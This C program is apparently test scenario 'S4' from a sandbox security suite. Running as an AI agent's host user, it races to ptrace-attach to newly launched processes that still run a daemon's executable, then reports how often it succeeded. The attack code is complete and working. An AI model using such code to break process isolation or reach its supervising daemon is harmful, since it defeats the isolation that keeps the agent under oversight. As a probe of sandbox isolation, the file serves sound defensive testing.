/*
 * S4: as the agent's user on the host, looks at every new process and tries to read its memory while it still is the
 * daemon's (its executable is argv[1]). Ends after argv[2] seconds and says how often it looked and how often it won.
 */
#include "report.h"
#include <limits.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <time.h>

static long won, looked, later;
static volatile sig_atomic_t stop;

static void on_signal(int signal) { stop = signal; }

static int is_daemon(pid_t pid, const char *executable) {
  char link[64], target[PATH_MAX];
  snprintf(link, sizeof link, "/proc/%d/exe", pid);
  ssize_t length = readlink(link, target, sizeof target - 1);
  if (length < 0) return 0;
  target[length] = 0;
  return strcmp(target, executable) == 0;
}

static void attack(pid_t pid, const char *executable) {
  if (kill(pid, 0) != 0) return;
  looked++;
  if (is_daemon(pid, executable)) won++;
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    if (is_daemon(pid, executable)) won++;
    else later++;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, 0, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
}

/* The number that was given out last: thousands of launches lead far away from where they began. */
static pid_t newest(void) {
  FILE *file = fopen("/proc/loadavg", "r");
  int pid = 0;
  if (file && fscanf(file, "%*s %*s %*s %*s %d", &pid) != 1) pid = 0;
  if (file) fclose(file);
  return pid;
}

int main(int argc, char **argv) {
  if (argc < 4) return 1;
  time_t end = time(0) + atoi(argv[2]);
  pid_t from = atoi(argv[3]), self = getpid();
  signal(SIGINT, on_signal);
  printf("ready OK\n");
  fflush(stdout);
  while (!stop && time(0) < end) {
    pid_t last = newest();
    /* Numbers begin again after the highest; what is older than us is of no interest. */
    pid_t oldest = last >= from && last - 2000 < from ? from : last - 2000;
    for (pid_t pid = oldest > 2 ? oldest : 2; !stop && pid < last + 300; pid++)
      if (pid != self) attack(pid, argv[1]);
  }
  printf("looked %ld\nwon %ld\nlater %ld\n", looked, won, later);
  return 0;
}
